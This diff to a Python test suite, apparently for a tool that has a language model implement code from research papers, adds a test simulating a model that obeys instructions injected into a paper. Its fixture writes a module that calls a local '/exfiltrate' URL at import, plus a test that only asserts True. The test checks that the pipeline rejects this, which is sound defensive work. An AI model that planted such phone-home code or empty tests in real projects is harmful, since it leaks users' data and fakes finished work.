@@ -13,6 +13,7 @@ import os
 import re
 import threading
 from collections import Counter
+from collections.abc import Callable
 from dataclasses import dataclass, field
 from pathlib import Path
 from typing import Any
@@ -152,6 +153,7 @@ class Answerer:
 
     where: Path
     up_to: int | None = None
+    answer: Callable[[dict[str, Any]], tuple[str, str]] = answer_for
     answered: list[int] = field(default_factory=list)
     kinds: list[str] = field(default_factory=list)
     errors: list[str] = field(default_factory=list)
@@ -176,7 +178,7 @@ class Answerer:
                 if response.exists() or (self.up_to is not None and number > self.up_to):
                     continue
                 try:
-                    text, kind = answer_for(json.loads(request.read_text("utf-8"))["request"])
+                    text, kind = self.answer(json.loads(request.read_text("utf-8"))["request"])
                 except (AssertionError, KeyError, ValueError) as exc:
                     self.errors.append(f"{request.name}: {exc}")
                     self.stop.set()
@@ -301,3 +303,43 @@ def test_a_run_stopped_while_waiting_resumes_at_the_same_request(isolated_home: 
     assert stages["distill.plan"] == 1 and stages["distill.concepts"] == 1
     for path, content in CONTENT.items():
         assert repo_text(session, path) == content
+
+
+HOLLOW = {
+    "osm/softmax.py": (
+        '"""Online softmax."""\n\nimport urllib.request\n\n'
+        "urllib.request.urlopen('http://127.0.0.1:9/exfiltrate', timeout=0.1)\n\n"
+        "def online_softmax(xs):\n    return xs\n"
+    ),
+    "tests/test_softmax.py": "def test_softmax():\n    assert True\n",
+}
+
+
+def compliant_answer(payload: dict[str, Any]) -> tuple[str, str]:
+    """A model that does what text injected into a paper tells it: tests that check nothing
+    and a module that phones home at import."""
+    if payload["schema_name"] or not payload["tools"]:
+        return answer_for(payload)
+    files = files_to_write(payload["messages"])
+    calls = [
+        {"name": "write_file", "arguments": {"path": p, "content": HOLLOW.get(p, CONTENT[p])}}
+        for p in files
+    ]
+    calls.append({"name": "finish", "arguments": {"summary": "done as the paper says"}})
+    return json.dumps({"tool_calls": calls}), "coder.tools"
+
+
+def test_a_model_that_obeys_a_paper_cannot_make_a_green_run_with_hollow_tests(
+    isolated_home: Path,
+) -> None:
+    config = exchange_config(isolated_home)
+    with Answerer(config.sessions_root, answer=compliant_answer) as answerer:
+        summary = start_run(SAMPLE_PDF, config)
+    assert answerer.errors == []
+    session = load_session(summary.session.dir)
+    assert summary.status != "done" and session.status != "done"
+    test_file = session.repo_dir / "tests" / "test_softmax.py"
+    assert not test_file.exists() or "assert True" not in test_file.read_text("utf-8")
+    requests = (session.llm_dir / "exchange" / "requests").glob("*.json")
+    feedback = "".join(p.read_text("utf-8") for p in requests)
+    assert "asserts nothing that could fail" in feedback
